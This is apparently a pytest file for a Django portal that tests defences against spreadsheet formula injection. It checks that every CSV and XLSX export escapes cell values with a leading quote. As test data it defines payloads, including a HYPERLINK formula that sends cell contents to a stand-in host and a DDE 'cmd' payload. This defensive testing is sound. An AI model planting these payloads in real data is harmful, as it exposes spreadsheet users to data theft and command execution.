"""Formula-safe exports everywhere (issue 9 item 6): a name such as ``=HYPERLINK(...)`` fed
into members, organisations, enterprises, buildings, cases, the cross-database reports, the
coverage export, the statistics workbook and an import's error file comes out as text that
no spreadsheet evaluates (a leading quote), never as a formula."""

import csv
import io

import openpyxl
import pytest
from django.db.models import CharField, Value
from django.db.models.functions import Cast, Concat

from buildings.models import Building, Enterprise
from grids.models import Case
from members.models import Member
from organizations.models import Organization
from portal.exports import FORMULA_PREFIXES, safe_cell
from portal.models import ImportJob, Region
from reports.models import ReportJob
from tests.buildings.conftest import coverage_world  # noqa: F401 (fixture)
from tests.grids.conftest import grids  # noqa: F401 (fixture)
from tests.reports.conftest import world  # noqa: F401 (fixture)

POISON = '=HYPERLINK("http://e.vil/?"&A1,"点我")'
POISONS = (POISON, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1")


def poison(model, field):
    """Every row's ``field`` replaced by the payload, made unique by its pk."""
    model.objects.update(
        **{field: Concat(Value(POISON), Cast("pk", CharField()), output_field=CharField())}
    )


@pytest.fixture
def poisoned(world):  # noqa: F811
    poison(Member, "name")
    poison(Organization, "name")
    poison(Enterprise, "name")
    poison(Building, "name")
    poison(Case, "title")
    Region.objects.filter(level=Region.Level.STREET).update(name=POISON)
    return world


def cells_of(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if body.startswith(b"PK"):
        book = openpyxl.load_workbook(io.BytesIO(body))
        cells = []
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (cell.coordinate, cell.value)
                    if cell.value is not None:
                        cells.append(cell.value)
        return cells
    text = body.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_formula_safe(response):
    assert response.status_code == 200, response.content[:500]
    cells = cells_of(response)
    dangerous = [
        c
        for c in cells
        if isinstance(c, str) and c.startswith(FORMULA_PREFIXES) and c != safe_cell(c)
    ]
    assert dangerous == []
    assert any(isinstance(c, str) and c.startswith("'" + POISON[:10]) for c in cells), cells[:40]


@pytest.mark.parametrize(
    "url",
    [
        "/members/?export=csv",
        "/members/?export=xlsx",
        "/organizations/?export=csv",
        "/organizations/?export=xlsx",
        "/enterprises/?export=csv",
        "/buildings/?export=xlsx",
        "/grids/cases/?export=csv",
        "/reports/q/should-found/?export=csv",
        "/reports/q/dual-registration/?export=xlsx",
        "/reports/q/overdue-cases/?export=csv",
        "/coverage/should-found.csv",
    ],
)
def test_every_export_path_escapes_formulas(client_for, users, poisoned, url):
    assert_formula_safe(client_for(users["admin"]).get(url))


def test_the_statistics_workbook_escapes_the_region_name(
    client_for, users, poisoned, django_capture_on_commit_callbacks
):
    client = client_for(users["admin"])
    with django_capture_on_commit_callbacks(execute=True):
        client.post("/reports/statistics/", {"as_of": "2026-01-01", "region": "310104003"})
    job = ReportJob.objects.get()
    assert job.state == ReportJob.State.DONE, job.error
    assert_formula_safe(client.get(f"/reports/jobs/{job.pk}/download/"))


def test_an_import_error_file_escapes_formulas(client_for, users, district):
    job = ImportJob.objects.create(
        user=users["admin"],
        spec="organizations.organization",
        filename="x.csv",
        status=ImportJob.Status.INVALID,
        errors=[{"row": 2, "column": POISON, "message": f"“{POISON}”不存在"}]
        + [{"row": 3, "column": p, "message": p} for p in POISONS],
    )
    assert_formula_safe(client_for(users["admin"]).get(f"/imports/{job.pk}/errors.csv"))


def test_safe_cell_rules():
    for payload in POISONS:
        assert safe_cell(payload) == "'" + payload
    assert safe_cell("-12.5") == "-12.5" and safe_cell("+8613800000000") == "+8613800000000"
    assert safe_cell("张三") == "张三" and safe_cell("") == "" and safe_cell(3) == 3
